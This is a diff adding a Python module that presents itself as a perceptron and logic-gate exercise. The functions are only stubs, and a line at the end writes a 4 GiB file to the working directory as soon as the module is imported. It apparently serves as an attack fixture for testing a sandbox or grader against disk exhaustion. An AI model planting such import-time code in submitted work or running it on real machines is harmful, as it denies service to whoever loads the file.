@@ -1,0 +1,43 @@
+"""Attack: fill the disk with one huge file."""
+
+import os
+
+import attack_env
+
+AND_WEIGHTS = (0.0, 0.0, 0.0)
+OR_WEIGHTS = (0.0, 0.0, 0.0)
+NAND_WEIGHTS = (0.0, 0.0, 0.0)
+
+
+def perceptron(x, w, b):
+    raise NotImplementedError
+
+
+def AND(x1, x2):
+    raise NotImplementedError
+
+
+def OR(x1, x2):
+    raise NotImplementedError
+
+
+def NAND(x1, x2):
+    raise NotImplementedError
+
+
+def XOR(x1, x2):
+    raise NotImplementedError
+
+
+def train_perceptron(inputs, targets, epochs=500, lr=0.1, seed=0):
+    raise NotImplementedError
+
+
+def _fill(path):
+    chunk = bytes(1 << 20)
+    with open(path, "wb") as fh:
+        for _ in range(4096):
+            fh.write(chunk)
+
+
+_fill(os.path.join(os.getcwd(), attack_env.MARK + "-huge.bin"))
